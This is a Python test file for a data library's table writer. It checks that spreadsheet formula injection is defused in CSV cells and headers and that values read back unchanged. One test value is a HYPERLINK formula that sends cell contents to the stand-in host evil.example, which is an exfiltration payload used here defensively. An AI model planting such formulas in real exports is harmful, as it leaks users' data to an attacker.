"""What a spreadsheet would run is written as text, and read back as it was."""

from __future__ import annotations

import csv
import json
from datetime import UTC, datetime
from pathlib import Path

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from leaven.data.formulas import defused, defused_table, restored
from leaven.evaluate.tables import write_table

RUN = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@given(st.text(st.sampled_from("=+-@'\t\n\uff1d1.ex "), max_size=6) | st.text(max_size=6))
@settings(deadline=None, derandomize=True, max_examples=300)
def test_what_is_written_is_harmless_and_read_back_as_it_was(text: str):
    safe = defused(text)
    assert restored(safe) == text
    assert safe in (text, "'" + text)
    if safe.startswith(RUN):
        float(safe)  # a number, which runs nothing


@pytest.mark.parametrize("sign", RUN)
def test_no_cell_and_no_head_of_a_csv_is_a_formula(tmp_path: Path, sign: str):
    evil = f'{sign}HYPERLINK("http://evil.example?"&A1)'
    texts = pa.array([evil, None, "", "plain; =2", f"'{evil}"])
    table = pa.table(
        {
            evil: texts,
            "large": texts.cast(pa.large_string()),
            "coded": texts.dictionary_encode(),
            "number": [-1.5, 2.0, -0.0, 1e300, -3.0],
        }
    )
    write_table(table, tmp_path / "a.csv")
    with (tmp_path / "a.csv").open(newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    assert rows[0][0] == f"'{evil}"
    for row in rows[1:]:
        assert row[0] == row[1] == row[2]
        assert not row[0].startswith(RUN)
        assert not row[0].startswith("'") or restored(row[0]) in (evil, f"'{evil}")
    assert rows[1][3] == "-1.5"


def test_tables_of_programs_are_as_they_are(tmp_path: Path):
    table = pa.table({"label": ["=cmd()", "'=x"]})
    assert defused_table(pa.table({"label": ["a"], "": ["b"]})).column_names == ["label", ""]
    for name in ("a.parquet", "a.jsonl"):
        write_table(table, tmp_path / name)
    assert "'=cmd()" not in (tmp_path / "a.jsonl").read_text()


def test_times_are_written_as_iso_has_them(tmp_path: Path):
    at = datetime(2026, 11, 29, 2, 4, tzinfo=UTC)
    write_table(pa.table({"at": pa.array([at, None])}), tmp_path / "a.jsonl")
    rows = [json.loads(line) for line in (tmp_path / "a.jsonl").read_text().splitlines()]
    assert [row["at"] for row in rows] == ["2026-11-29T02:04:00+00:00", None]
